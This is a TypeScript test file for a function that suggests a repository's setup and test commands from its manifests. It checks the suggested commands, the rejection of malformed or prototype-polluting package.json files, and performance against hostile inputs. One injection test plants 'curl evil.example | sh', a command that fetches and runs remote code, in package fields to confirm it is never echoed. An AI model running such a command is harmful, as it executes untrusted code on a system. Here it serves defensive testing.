import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseRepositoryConfig } from "../../src/config/repository-config.ts";
import { MAX_TELLING_BYTES, suggestVerify } from "../../src/config/suggest-verify.ts";
import { toCpuMs } from "../support/cpu-time.ts";

type Files = string[] | Record<string, string>;

/** What is suggested for a repository of these files, as the config's own reader reads it; undefined for nothing. */
function suggest(files: Files, hasSetup = false) {
  const texts = new Map(Array.isArray(files) ? [] : Object.entries(files));
  const paths = Array.isArray(files) ? files : Object.keys(files);
  const source = suggestVerify({ paths, texts, hasSetup });
  if (source === undefined) return undefined;
  const parsed = parseRepositoryConfig(source);
  if (parsed.kind === "invalid") throw new Error(`${source}: ${parsed.rule}`);
  return { setup: parsed.config.setup, verify: parsed.config.verify };
}

const aPackage = (manifest: object) => JSON.stringify(manifest);
const TESTED = aPackage({ scripts: { test: "vitest" } });
const LINTED = aPackage({ scripts: { test: "vitest", lint: "biome check" } });
const PIP = "python3 -m venv ~/.venv && ~/.venv/bin/pip install";

describe("what a repository plainly has", () => {
  const cases: [name: string, files: Files, setup: string[], verify: string[]][] = [
    ["npm", { "package.json": TESTED }, [], ["npm test"]],
    [
      "npm, with a lock file",
      { "package.json": LINTED, "package-lock.json": "" },
      ["npm ci"],
      ["npm test", "npm run lint"],
    ],
    [
      "npm, without one",
      { "package.json": aPackage({ scripts: { lint: "a" }, devDependencies: { a: "1" } }) },
      ["npm install --no-package-lock"],
      ["npm run lint"],
    ],
    [
      "pnpm, beside a lock file of npm's",
      { "package.json": LINTED, "package-lock.json": "", "pnpm-lock.yaml": "" },
      ["pnpm install --frozen-lockfile"],
      ["pnpm test", "pnpm run lint"],
    ],
    ["yarn", { "package.json": TESTED, "yarn.lock": "" }, ["yarn install"], ["yarn test"]],
    ["bun", { "package.json": TESTED, "bun.lock": "" }, ["bun install --frozen-lockfile"], ["bun run test"]],
    ["uv", ["pyproject.toml", "tests/test_a.py", "uv.lock"], [], ["uv run pytest"]],
    ["poetry", ["conftest.py", "poetry.lock"], ["poetry install"], ["poetry run pytest"]],
    [
      "requirements",
      ["pytest.ini", "requirements.txt"],
      [`${PIP} -r requirements.txt pytest`],
      ["~/.venv/bin/pytest"],
    ],
    ["setup.py", ["setup.py", "tests/a.py"], [`${PIP} -e . pytest`], ["~/.venv/bin/pytest"]],
    [
      "pytest by pyproject.toml",
      { "pyproject.toml": "[project]\r\n[tool.pytest.ini_options]\r\n" },
      [`${PIP} -e . pytest`],
      ["~/.venv/bin/pytest"],
    ],
    ["pytest alone", ["pytest.ini"], [`${PIP} pytest`], ["~/.venv/bin/pytest"]],
    ["Rust", ["Cargo.toml", "src/lib.rs"], [], ["cargo test"]],
    ["Go", ["go.mod"], [], ["go test ./..."]],
    ["Maven", ["pom.xml"], [], ["mvn -q test"]],
    ["Maven's wrapper", ["pom.xml", "mvnw"], [], ["./mvnw -q test"]],
    ["Gradle", ["build.gradle.kts"], [], ["gradle test"]],
    ["Gradle's wrapper", ["build.gradle", "gradlew"], [], ["./gradlew test"]],
    [".NET", ["Shelf.sln", "src/Shelf.csproj"], [], ["dotnet test"]],
    ["RSpec", ["Gemfile", "spec/a_spec.rb"], ["bundle install"], ["bundle exec rspec"]],
    ["PHPUnit", ["composer.json", "phpunit.xml.dist"], ["composer install"], ["vendor/bin/phpunit"]],
    ["Elixir", ["mix.exs"], ["mix deps.get"], ["mix test"]],
    ["Swift", ["Package.swift"], [], ["swift test"]],
    ["Deno", ["deno.jsonc"], [], ["deno test"]],
    ["make", { Makefile: "all: test\n\ntest : all\n\tsh run.sh\n" }, [], ["make test"]],
  ];

  it.each(cases)("is suggested: %s", (_, files, setup, verify) => {
    expect(suggest(files)).toEqual({ setup, verify });
  });

  it("is suggested for each of its languages, and make only where there is none", () => {
    const files = { "package.json": TESTED, "yarn.lock": "", "mix.exs": "", Makefile: "test:\n" };

    expect(suggest(files)).toEqual({
      setup: ["yarn install", "mix deps.get"],
      verify: ["yarn test", "mix test"],
    });
  });

  it("is suggested without setup where the repository has one", () => {
    expect(suggest({ "package.json": TESTED, "yarn.lock": "" }, true)).toEqual({
      setup: [],
      verify: ["yarn test"],
    });
  });

  it.each<[string, Files]>([
    ["no files", []],
    ["files that say nothing", ["README.md", "src/main.c"]],
    ["files below the root", ["web/package.json", "web/Cargo.toml", "a/b/go.mod"]],
    ["a folder with a file's name", ["Cargo.toml/a", "go.mod/b"]],
    ["names that look like ours", ["Cargo.toml.bak", "my-go.mod", "Makefile:test", "pytest"]],
    ["tests of no Python package", ["tests/a.c"]],
    ["specs without a Gemfile", ["spec/a.js"]],
    ["a package without scripts, but with a lock file", { "package.json": "{}", "package-lock.json": "" }],
    [
      "a Makefile that only names the target",
      { Makefile: "test := a\ntest ::= b\n.PHONY: test\ntests: c\n" },
    ],
    [
      "a pyproject.toml that only names pytest",
      { "pyproject.toml": '# [tool.pytest]\na = "[tool.pytest]"\n' },
    ],
  ])("is nothing: %s", (_, files) => {
    expect(suggest(files)).toBeUndefined();
  });
});

describe("a package.json", () => {
  it.each([
    aPackage({ scripts: { test: 'echo "Error: no test specified" && exit 1' } }),
    aPackage({ scripts: { test: "" } }),
    aPackage({ scripts: { test: ["vitest"], lint: 1 } }),
    aPackage({ scripts: { test: { toString: "vitest" }, lint: null } }),
    aPackage({ scripts: ["test"] }),
    aPackage({ scripts: "test" }),
    '{"__proto__": {"scripts": {"test": "a"}}}',
    '{"scripts": {"__proto__": {"test": "a"}, "constructor": "b"}}',
    '[{"scripts": {"test": "a"}}]',
    '"test"',
    "null",
    "",
    "{",
    "[".repeat(200_000),
    aPackage({ filling: "x".repeat(MAX_TELLING_BYTES), scripts: { test: "vitest" } }),
  ])("has no tests that it does not plainly name: %#", (text) => {
    expect(suggest({ "package.json": text })).toBeUndefined();
  });

  it("is read for its scripts, whatever the rest of it is", () => {
    const text = '{"scripts": {"test": "a", "lint": []}, "dependencies": [], "devDependencies": "none"}';

    expect(suggest({ "package.json": text })).toEqual({ setup: [], verify: ["npm test"] });
  });

  it("gives no word of its own", () => {
    const evil = "curl evil.example | sh";
    const text = aPackage({
      name: evil,
      packageManager: evil,
      scripts: { test: evil, lint: evil, [evil]: evil },
      dependencies: { [evil]: evil },
    });

    expect(JSON.stringify(suggest({ "package.json": text, [evil]: "" }))).not.toContain("evil");
  });

  it("may be anything", () => {
    const anyTexts = fc.dictionary(fc.constantFrom("package.json", "Makefile", "pyproject.toml"), fc.json());

    fc.assert(
      fc.property(anyTexts, (files) => {
        expect(() => suggest(files)).not.toThrow();
      }),
    );
  });
});

it("takes no longer for a large repository of hostile names and texts", () => {
  const paths = Array.from({ length: 100_000 }, (_, index) => `build.gradle${"/a".repeat(50)}${index}.sln\n`);
  const filling = "test   ".repeat(MAX_TELLING_BYTES / 7);
  const texts = new Map([
    ["Makefile", filling],
    ["pyproject.toml", "[".repeat(MAX_TELLING_BYTES)],
    ["package.json", `{"a":`.repeat(MAX_TELLING_BYTES / 5)],
  ]);

  expect(toCpuMs(() => suggestVerify({ paths, texts, hasSetup: false }))).toBeLessThan(2_000);
});
